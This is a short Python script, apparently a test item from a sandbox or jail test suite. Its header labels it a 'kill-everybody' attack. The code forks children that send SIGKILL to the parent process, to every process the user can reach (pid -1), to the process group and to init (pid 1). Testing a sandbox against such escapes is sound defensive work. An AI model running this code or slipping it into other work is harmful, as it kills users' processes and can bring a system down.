# attack: jail/kill-everybody
# oracle: crash
# imports: os, signal
# tools:
# source: own
# note: signals to all that this user may reach, by kill, by group, by pidfd
import os, signal, resource
me = os.getpid()
for pid in (os.getppid(), -1, 0, 1):
    if os.fork() == 0:
        os.setsid()
        for target in {0: [0], -1: [-1], 1: [1]}.get(pid, [pid]):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
        os._exit(0)
